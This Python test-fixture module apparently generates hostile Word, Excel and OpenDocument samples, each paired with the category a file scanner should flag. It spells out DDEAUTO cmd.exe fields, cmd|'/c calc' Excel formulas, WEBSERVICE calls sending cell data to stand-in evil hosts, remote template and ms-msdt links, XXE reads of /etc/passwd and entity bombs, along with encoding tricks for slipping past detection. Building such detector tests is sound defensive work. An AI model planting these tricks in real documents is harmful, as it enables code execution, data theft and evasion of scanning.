"""Word, Excel and OpenDocument files that act, fetch, hide or harm, made from small good ones."""

from __future__ import annotations

from collections.abc import Iterator

from tests.procurement.hostile.raw_zip import packed
from tests.procurement.hostile.shapes import Shape, chance

CONTENT_TYPES = "[Content_Types].xml"
OUTSIDE = {
    "template": ("attachedTemplate", "http://evil.example/t.dotm"), "object": ("oleObject", "mhtml:http://evil.example/a!x-usc:http://b"),
    "picture": ("image", "http://evil.example/track.png"), "frame": ("frame", "file:///etc/passwd"), "part": ("subDocument", "\\\\evil\\share\\a.docx"),
    "link to a file": ("hyperlink", "file:///C:/Windows/System32/calc.exe"), "link to a share": ("hyperlink", "\\\\evil\\share\\a.exe"),
    "link to a script": ("hyperlink", "javascript:alert(1)"), "link to a protocol": ("hyperlink", "ms-msdt:/id"),
}  # fmt: skip
WAYS = ("plain", "utf-16-le", "utf-16-be", "utf-32", "numbered", "prefixed", "single quotes")
MACROS = (
    ("docx", "word/vbaProject.bin"), ("docx", "word/VBAPROJECT.BIN"), ("docx", "other/vbaProject.bin"), ("docx", "word/vbaData.xml"),
    ("docx", "word/attachedToolbars.bin"), ("xlsx", "xl/vbaProject.bin"), ("xlsx", "xl/macrosheets/sheet1.xml"), ("xlsx", "xl/macroSheets/x.xml"),
    ("xlsx", "xl/intlMacrosheets/s.xml"), ("xlsx", "xl/dialogsheets/s.xml"), ("odt", "Basic/Standard/Module1.xml"), ("odt", "Scripts/python/a.py"),
)  # fmt: skip
TYPED = (
    "application/vnd.ms-word.document.macroEnabled.main+xml",
    "application/vnd.ms-office.vbaProject",
    "application/vnd.ms-excel.intlmacrosheet+xml",
)
HELD = (
    ("docx", "word/embeddings/oleObject1.bin"), ("docx", "word/embeddings/book.xlsx"), ("xlsx", "xl/embeddings/word.docx"), ("docx", "word/oleObject9.bin"),
    ("odt", "Object 1/content.xml"), ("odt", "Object 2"),
)  # fmt: skip
CONTROLS = (
    ("docx", "word/activeX/activeX1.xml"),
    ("xlsx", "xl/ctrlProps/c.xml"),
    ("docx", "word/webextensions/w.xml"),
    ("docx", "customUI/customUI14.xml"),
)
SOURCES = (("xlsx", "xl/connections.xml"), ("xlsx", "xl/queryTables/q.xml"), ("xlsx", "xl/model/item.data"))
IN_WORD = {
    "dde field": ("dde", '<w:instrText>DDE excel "c:\\x" a</w:instrText>'), "dde field, automatic": ("dde", "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"),
    "dde field over two runs": ("dde", "<w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO cmd</w:instrText>"),
    "dde field, a letter each": ("dde", "".join(f"<w:instrText>{c}</w:instrText>" for c in "DDEAUTO cmd")),
    "dde field, simple": ("dde", '<w:fldSimple w:instr=" DDEAUTO cmd"/>'), "dde field, quoted": ("dde", "<w:fldSimple w:instr='\"DDE\" x'/>"),
    "dde field, numbered": ("dde", "<w:instrText>&#68;&#x44;&#69; cmd</w:instrText>"), "picture field": ("external_relations", "<w:instrText>INCLUDEPICTURE http://evil</w:instrText>"),
    "text field": ("external_relations", '<w:fldSimple w:instr="INCLUDETEXT \\\\evil"/>'), "other piece": ("embedded_files", '<w:altChunk r:id="r1"/>'),
    "object": ("embedded_files", '<o:OLEObject Type="Embed"/>'), "inclusion": ("external_relations", '<xi:include href="file:///etc/passwd"/>'),
    "style sheet": ("external_relations", '<?xml-stylesheet href="http://evil/x.xsl"?>'),
}  # fmt: skip
IN_EXCEL = {
    "dde formula": ("dde", "<f>cmd|'/c calc'!A0</f>"), "dde formula, escaped": ("dde", "<f>MSEXCEL|&apos;\\..\\cmd&apos;!A0</f>"),
    "dde formula, spaced": ("dde", "<f t='n'>cmd| '/c x'!_x</f>"), "dde link": ("dde", '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
    "web formula": ("external_relations", '<f>WEBSERVICE("http://evil/"&amp;A1)</f>'), "web formula, small": ("external_relations", "<f>webservice (A1)</f>"),
}  # fmt: skip
IN_ODT = {
    "dde connection": ("dde", "<text:dde-connection office:dde-application='soffice'/>"), "dde source": ("dde", "<office:dde-source/>"),
    "dde table": ("dde", "<table:dde-links/>"), "event": ("macros", '<script:event-listener script:event-name="dom:load"/>'),
    "script": ("macros", '<office:script script:language="ooo:Basic"/>'), "picture elsewhere": ("external_relations", '<draw:image xlink:href="http://evil/a.png"/>'),
    "picture on a share": ("external_relations", '<draw:image xlink:href="//evil/a.png"/>'), "section elsewhere": ("external_relations", '<text:section-source xlink:href="../../x.odt"/>'),
    "frame": ("external_relations", '<draw:floating-frame xlink:href="http://evil"/>'), "object": ("embedded_files", '<draw:object-ole xlink:href="./Object 1"/>'),
    "background": ("external_relations", "<style:background-image xlink:href='file:///x'/>"), "form": ("submits", '<form:form xlink:href="http://evil/take"/>'),
    "font": ("external_relations", '<svg:font-face-uri xlink:href="http://evil/f.ttf"/>'),
}  # fmt: skip
ENTITIES = {
    "laughs": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>', "file": '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
    "parameter": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]>', "long": f'<!DOCTYPE x [<!ENTITY a "{"a" * 5000}">]>',
}  # fmt: skip
PROGRAMS = {
    "windows": b"MZ\x90\0",
    "linux": b"\x7fELF\x02",
    "apple": b"\xcf\xfa\xed\xfe",
    "shell": b"#!/bin/sh\n",
    "java": b"\xca\xfe\xba\xbe",
}


def office(kind: str, *more: tuple[str, bytes], text: str = "", types: str = "") -> bytes:
    """Return a file of a kind, with a text in its main part and more parts."""
    if kind == "odt":
        return packed(
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("content.xml", f"<office:x>{text}</office:x>".encode()),
            *more,
        )
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[kind]
    return packed((CONTENT_TYPES, f"<Types>{types}</Types>".encode()), (main, f"<x>{text}</x>".encode()), *more)


def encoded(text: str, way: str) -> bytes:
    """Return XML as the same XML in another dress."""
    if way == "numbered":
        return text.replace("External", "&#69;xtern&#x61;l").encode()
    if way == "prefixed":
        return text.replace("<Relationship ", "<rel:Relationship ").encode()
    if way == "single quotes":
        return text.replace('"', "'").encode()
    return (
        text.encode({"plain": "utf-8", "utf-32": "utf-32"}.get(way, way))
        if way in ("plain", "utf-32")
        else _marked(text, way)
    )


def _marked(text: str, way: str) -> bytes:
    return (b"\xff\xfe" if way.endswith("le") else b"\xfe\xff") + text.encode(way)


def shapes() -> Iterator[Shape]:
    """Return the family."""
    for title, (kind, target) in OUTSIDE.items():
        for way in WAYS:
            text = f'<Relationships><Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
            parts = [(f"word/_rels/{n}.rels", b"<Relationships/>") for n in range(chance(title).randrange(150))]
            yield _shape(
                f"{title}, {way}", "docx", "external_relations", *parts, ("word/_rels/z.rels", encoded(text, way))
            )
    for code, named in (
        ("macros", MACROS),
        ("embedded_files", HELD),
        ("controls", CONTROLS),
        ("external_relations", SOURCES),
    ):
        for kind, name in named:
            yield _shape(f"holds {name}", kind, code, (name, b"<x/>"))
    for title, head in PROGRAMS.items():
        yield _shape(f"a program for {title}", "docx", "programs", ("word/media/image1.png", head + b"x" * 60))
    yield from _said()
    yield from _entities()
    yield from _odd()


def _shape(title: str, kind: str, expected: str, *more: tuple[str, bytes], text: str = "", types: str = "") -> Shape:
    return Shape(title, f"x.{kind}", office(kind, *more, text=text, types=types), expected)


def _said() -> Iterator[Shape]:
    for number, kind in enumerate(TYPED):
        yield _shape(f"typed as macros {number}", "docx", "macros", types=f'<Override ContentType="{kind}"/>')
        yield _shape(
            f"typed as macros {number}, table", "xlsx", "macros", types=f"<Default ContentType='{kind.upper()}'/>"
        )
    for title, (code, text) in IN_WORD.items():
        yield _shape(f"word, {title}", "docx", code, text=text)
        yield _shape(
            f"word, {title}, in a foot", "docx", code, ("word/footer3.xml", _marked(f"<x>{text}</x>", "utf-16-le"))
        )
    for title, (code, text) in IN_EXCEL.items():
        yield _shape(f"excel, {title}", "xlsx", code, ("xl/worksheets/sheet1.xml", f"<x>{text}</x>".encode()))
    for title, (code, text) in IN_ODT.items():
        yield _shape(f"odt, {title}", "odt", code, text=text)


def _entities() -> Iterator[Shape]:
    for title, text in ENTITIES.items():
        for name in ("word/settings.xml", "word/_rels/document.xml.rels"):
            yield _shape(
                f"entities: {title} in {name}",
                "docx",
                "FIL-04",
                (name, f"<?xml version='1.0'?>{text}<x>&a;</x>".encode()),
            )
        yield _shape(
            f"entities: {title} in a sheet",
            "xlsx",
            "FIL-04",
            ("xl/worksheets/sheet1.xml", encoded(text + "<x/>", "utf-16-be")),
        )
        yield _shape(f"entities: {title} in a text", "odt", "FIL-04", ("styles.xml", (text + "<x/>").encode()))
    yield _shape(
        "a grammar elsewhere",
        "docx",
        "external_relations",
        ("word/settings.xml", b'<!DOCTYPE x SYSTEM "http://evil/x.dtd"><x/>'),
    )


def _odd() -> Iterator[Shape]:
    dice = chance("office")
    words = "".join(f"<w:t>{dice.getrandbits(64):x}</w:t>" for _ in range(220_000))
    yield _shape("five megabytes of text", "docx", "partly_seen", text=words)
    for encoding in ("utf-7", "cp037", "ebcdic-cp-us"):
        part = f"<?xml version='1.0' encoding='{encoding}'?><x/>".encode()
        yield _shape(f"text in {encoding}", "docx", "partly_seen", ("word/settings.xml", part))
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    yield Shape("old word", "x.doc", ole + "WordDocument".encode("utf-16-le"), "FIL-05")
    yield Shape("old word under a new name", "x.docx", ole, "FIL-05")
    yield Shape(
        "word with a password", "x.docx", ole + bytes(2_000_000) + "EncryptedPackage".encode("utf-16-le"), "FIL-03"
    )
    yield _shape("odt with a password", "odt", "FIL-03", ("META-INF/manifest.xml", b"<manifest:encryption-data/>"))
    yield Shape("only an archive", "x.docx", packed(("a.txt", b"x")), "FIL-05")
    yield Shape(
        "another kind of text",
        "x.odt",
        packed(("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", b"x")),
        "FIL-05",
    )
    yield Shape("a table called a text", "x.docx", office("xlsx"), "FIL-06")
